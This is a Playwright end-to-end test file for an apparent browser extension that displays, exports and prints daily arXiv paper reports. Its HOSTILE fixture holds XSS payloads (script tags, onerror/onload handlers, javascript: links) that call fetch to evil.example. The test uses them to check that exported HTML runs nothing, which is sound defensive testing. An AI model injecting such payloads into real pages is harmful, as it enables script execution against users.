import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import type { Page } from 'playwright';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { Paper, Report } from '@/core/paper';
import { formatReport } from '@/core/report/format';
import { parseReport } from '@/core/report/parse';
import { readInput } from '@/core/report/read';
import { openChromium, type Chromium } from '@/scripts/browser/chromium';
import { importFiles } from '@/scripts/browser/daodu';
import { Site } from '@/scripts/browser/site';
import { CHROME_BUILD } from './arxiv';
import { findViolations } from './axe';

const RUN = 'window.ran=1;fetch("https://evil.example/ran")';
const FAILURE = '抱歉，请提供论文的全文，我才能分析。';
/** Papers of the long day that are new; more than are shown at once. */
const NEW = 80;

function paper(number: number, change: Partial<Paper> = {}): Paper {
  const id = `2606.${10_000 + number}`;
  const markdown = `**1. 研究问题：**\n\n第 ${number} 个问题，没有人数过 $x^2$。\n\n**2. 方法：**\n\n数一遍。`;
  const sections = [
    { part: 'problem' as const, title: '1. 研究问题：', markdown: `第 ${number} 个问题，没有人数过 $x^2$。` },
    { part: 'method' as const, title: '2. 方法：', markdown: '数一遍。' },
  ];
  return {
    id,
    version: 1,
    title: `Counting Things ${number}`,
    titleChinese: null,
    authors: ['Ann Lee', 'Bo Xu'],
    published: '2026-06-18',
    categories: [number % 2 ? 'cs.CV' : 'cs.RO'],
    abstract: 'We count things.',
    analysis: { markdown, basis: 'full', sections },
    failure: null,
    keyFindings: ['We count things.'],
    links: [{ label: 'arXiv', url: `https://arxiv.org/abs/${id}v1` }],
    extra: {},
    saved: null,
    ...change,
  };
}

function report(date: string, papers: Paper[], title = `Arxiv Computer Vision Papers - ${date}`): Report {
  const summary = { markdown: '**1. 主要主题**\n\n今天都在数数。', sections: [], invented: false };
  return { kind: 'report', date, title, summary, papers, layout: null };
}

const many = (from: number, count: number) => Array.from({ length: count }, (_, index) => paper(from + index));
const FIRST_DAY = formatReport(report('2026-06-19', many(0, 3)));
// Lines that end as on Windows, as one author's files do: to give them back takes the layout.
const LONG_DAY = formatReport(
  report('2026-06-22', [
    paper(500, { analysis: null, failure: FAILURE }),
    ...many(1, 2),
    ...many(100, NEW),
    paper(501, { title: 'A Rare Orchid' }),
  ]),
).replaceAll('\n', '\r\n');

const BAD = `<img src="https://evil.example/a.png" onerror='${RUN}'><script>${RUN}</script>"><svg onload='${RUN}'>`;
const HOSTILE = report(
  '2026-06-23',
  [
    paper(900, {
      title: BAD,
      titleChinese: BAD,
      authors: Array.from({ length: 12 }, () => BAD),
      published: BAD,
      categories: [BAD],
      abstract: BAD,
      analysis: { markdown: BAD, basis: 'full', sections: [{ part: 'problem', title: BAD, markdown: BAD }] },
      keyFindings: [BAD, `[x](javascript:${RUN})`],
      links: [
        { label: BAD, url: `javascript:${RUN}` },
        { label: 'x', url: `https://evil.example/"onmouseover="${RUN}` },
      ],
      extra: { [BAD]: BAD },
    }),
    paper(901),
  ],
  `</title><script>${RUN}</script>`,
);

describe('the page of a report', () => {
  let chromium: Chromium;
  let page: Page;
  let folder: string;

  beforeAll(async () => {
    folder = mkdtempSync(join(tmpdir(), 'daodu-report-'));
    const write = (name: string, text: string) => {
      writeFileSync(join(folder, name), text);
      return join(folder, name);
    };
    chromium = await openChromium({ extension: CHROME_BUILD, site: new Site() });
    const hostile = JSON.stringify({ report: HOSTILE, skipped: [] });
    await importFiles(
      chromium,
      write('2026-06-19.md', FIRST_DAY),
      write('2026-06-22.md', LONG_DAY),
      write('hostile.json', hostile),
    );
    page = await chromium.context.newPage();
  });
  afterAll(async () => {
    await chromium.close();
    rmSync(folder, { recursive: true });
  });

  async function open(hash: string): Promise<void> {
    await page.goto('about:blank'); // another fragment alone would keep the page
    await page.goto(chromium.pageUrl(`library.html${hash}`));
  }

  const rows = (list: string | RegExp) => page.getByRole('list', { name: list }).locator('> li');
  const fold = (name: RegExp) => page.getByRole('button', { name });

  async function exportReport(format: RegExp): Promise<{ name: string; path: string; text: string }> {
    await page.getByRole('button', { name: '导出日报' }).click();
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      page.getByRole('menuitem', { name: format }).click(),
    ]);
    const path = join(folder, `out-${download.suggestedFilename()}`);
    await download.saveAs(path);
    return { name: download.suggestedFilename(), path, text: readFileSync(path, 'utf8') };
  }

  test('shows a long day’s first papers, and folds the rest and what was there before', async () => {
    await open('#/report/2026-06-22');
    await expect.poll(() => rows('论文列表').count()).toBe(60);
    const rest = NEW + 2 - 60;
    expect(await fold(/^其余/).getAttribute('aria-expanded')).toBe('false');
    await fold(new RegExp(`其余 ${rest} 篇`)).click();
    await expect.poll(() => rows(new RegExp(`其余 ${rest} 篇`)).count()).toBe(rest);
    await fold(/以前出现过 2 篇/).click();
    const seen = rows(/以前出现过 2 篇/);
    expect(await seen.allInnerTexts()).toEqual([
      expect.stringContaining('6 月 19 日出现过'),
      expect.stringContaining('6 月 19 日出现过'),
    ]);
  });

  test('accounts for the day’s categories in a table', async () => {
    await open('#/report/2026-06-22');
    const table = page.getByRole('table');
    await table.waitFor();
    expect(await table.getByRole('columnheader').allInnerTexts()).toEqual(['分类', '收录', '有解读', '失败']);
    expect(await table.getByRole('row').filter({ hasText: 'cs.RO' }).getByRole('cell').allInnerTexts()).toEqual([
      '42',
      '41',
      '1',
    ]);
  });

  test('finds what is folded, and counts what an export takes', async () => {
    await open('#/report/2026-06-22');
    await page.getByRole('button', { name: `导出全部 ${NEW + 4} 篇` }).waitFor();
    await page.getByRole('searchbox').fill('orchid');
    await expect.poll(() => rows('论文列表').count()).toBe(1);
    await page.getByRole('button', { name: '导出找到的 1 篇' }).waitFor();
    await page.getByRole('searchbox').fill('2606.10001');
    await expect.poll(() => rows('论文列表').allInnerTexts()).toEqual([expect.stringContaining('出现过')]);
  });

  test('moves by j and k through what is in sight, and opens the group of the paper in its address', async () => {
    await open('#/report/2026-06-22/paper/2606.10001');
    await expect.poll(() => rows(/以前出现过 2 篇/).count()).toBe(2);
    await page.keyboard.press('j');
    await expect.poll(() => page.url()).toContain('2606.10002');
    await page.keyboard.press('k');
    await page.keyboard.press('k');
    // The group before this one is folded: what is above is the last of the first papers.
    await expect.poll(() => page.url()).toContain('2606.10159');
  });

  test('says of a paper whose analysis is none what its source says, and has it last', async () => {
    await open('#/report/2026-06-22/paper/2606.10500');
    await page.getByText('这份日报没有这篇论文的解读，来源给出的原话是：').waitFor();
    await page.getByText(FAILURE).waitFor();
    const last = rows(/其余/).last();
    expect(await last.textContent()).toMatch(/Counting Things 500[\s\S]*暂无解读/);
  });

  test('has papers with a keyword of the reader’s first', async () => {
    const options = await chromium.context.newPage();
    await options.goto(chromium.pageUrl('options.html'));
    await options.getByRole('textbox', { name: '主要关键词' }).fill('orchids，orchid');
    await options.getByRole('textbox', { name: '主要关键词' }).blur();
    await options.getByText('已保存').waitFor();
    await options.close();
    await open('#/report/2026-06-22');
    await expect.poll(() => rows('论文列表').allInnerTexts()).toEqual([expect.stringContaining('A Rare Orchid')]);
    await fold(new RegExp(`其余 ${NEW + 1} 篇`)).waitFor();
  });

  test('gives the file back byte by byte as Markdown, and as JSON the same report', async () => {
    await open('#/report/2026-06-22');
    expect((await exportReport(/Markdown/)).text).toBe(LONG_DAY);
    const { name, text } = await exportReport(/JSON/);
    expect(name).toBe('daodu-report-2026-06-22.json');
    expect(readInput(text)).toEqual({ report: parseReport(LONG_DAY).report, skipped: [] });
  });

  test('writes all of it as one HTML file, without what is no analysis', async () => {
    await open('#/report/2026-06-22');
    const { name, path, text } = await exportReport(/HTML/);
    expect(name).toBe('daodu-report-2026-06-22.html');
    expect(text).not.toContain(FAILURE);
    const file = await chromium.context.newPage();
    await file.goto(pathToFileURL(path).href);
    expect(await file.locator('article').count()).toBe(NEW + 4);
    expect(await file.locator('article').last().innerText()).toContain('暂无解读');
    expect(await file.locator('nav li').count()).toBe(NEW + 4);
    expect(await file.locator('article math').count()).toBeGreaterThan(NEW);
    expect(await findViolations(file)).toEqual([]);
    for (const width of [360, 1366]) {
      await file.setViewportSize({ width, height: 768 });
      expect(await file.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(width);
    }
    await file.close();
  });

  test('writes hostile text into HTML that runs nothing, asks for nothing and leads nowhere else', async () => {
    await open('#/report/2026-06-23');
    const { path } = await exportReport(/HTML/);
    const before = chromium.requests.length;
    const file = await chromium.context.newPage();
    const problems: string[] = [];
    file.on('console', (message) => problems.push(message.text()));
    await file.goto(pathToFileURL(path).href);
    expect(await file.evaluate(() => 'ran' in window)).toBe(false);
    const faults = await file.evaluate(() =>
      [...document.querySelectorAll('*')].flatMap((node) => {
        const acts = node.getAttributeNames().some((name) => name.startsWith('on') || name === 'src');
        const href = node.getAttribute('href') ?? '#';
        const loads = ['script', 'img', 'svg', 'iframe', 'link', 'object'].includes(node.localName);
        return acts || loads || !/^(?:#|https?:)/.test(href) ? [node.outerHTML] : [];
      }),
    );
    expect(faults).toEqual([]);
    expect(problems).toEqual([]); // a policy that had to step in would say so
    expect(chromium.requests.slice(before)).toEqual([]);
    expect(await file.locator('article').first().innerText()).toContain('<script>');
    await file.close();
  });

  test.each(['light', 'dark'] as const)('prints by itself, black on white, in a %s theme', async (colorScheme) => {
    const printed = await chromium.context.newPage();
    await printed.emulateMedia({ colorScheme });
    await printed.addInitScript(() => {
      window.print = () => document.body.setAttribute('data-printed', `${document.body.dataset['printed'] ?? ''}1`);
    });
    await printed.goto(chromium.pageUrl('library.html#/print/2026-06-22'));
    await printed.locator('body[data-printed="1"]').waitFor();
    await printed.emulateMedia({ media: 'print', colorScheme });
    expect(await printed.locator('.printed-papers > li').count()).toBe(NEW + 4);
    expect(await printed.getByText('今天都在数数。').isVisible()).toBe(true);
    expect(await printed.getByRole('button', { name: '打印' }).isVisible()).toBe(false);
    const colours = await printed.evaluate(() => {
      const { color, backgroundColor } = getComputedStyle(document.body);
      return [color, backgroundColor];
    });
    expect(colours).toEqual(['rgb(0, 0, 0)', 'rgb(255, 255, 255)']);
    await printed.close();
  });

  test('printed as it stands has nothing on paper that waits for a click or a pen', async () => {
    await open('#/report/2026-06-22');
    const unfold = page.getByText('展开', { exact: true }).first();
    const note = page.getByPlaceholder(/写点笔记/);
    await note.waitFor();
    expect([await unfold.isVisible(), await note.isVisible()]).toEqual([true, true]);
    await page.emulateMedia({ media: 'print' });
    expect([await unfold.isVisible(), await note.isVisible()]).toEqual([false, false]);
    expect(await page.getByRole('region', { name: '今日概览' }).isVisible()).toBe(true);
    await page.emulateMedia({ media: 'screen' });
  });

  test.each(['#/report/2026-06-22', '#/print/2026-06-22', '#/reports'])(
    'has no fault that a checker of accessibility finds in %s, light or dark',
    async (hash) => {
      const checked = await chromium.context.newPage();
      await checked.addInitScript(() => {
        window.print = () => {};
      });
      for (const colorScheme of ['light', 'dark'] as const) {
        await checked.emulateMedia({ colorScheme });
        await checked.goto('about:blank');
        await checked.goto(chromium.pageUrl(`library.html${hash}`));
        await checked.getByRole('heading', { name: /6 月 22 日|全部日期/ }).waitFor();
        expect(await findViolations(checked)).toEqual([]);
      }
      await checked.close();
    },
  );

  test('leads to that page from its head', async () => {
    await open('#/report/2026-06-22');
    const link = page.getByRole('link', { name: '打印' });
    expect(await link.getAttribute('href')).toMatch(/^#\/print\/2026-06-22\?report=/);
  });

  test('asks nothing of the network', () => expect(chromium.requests).toEqual([]));
});
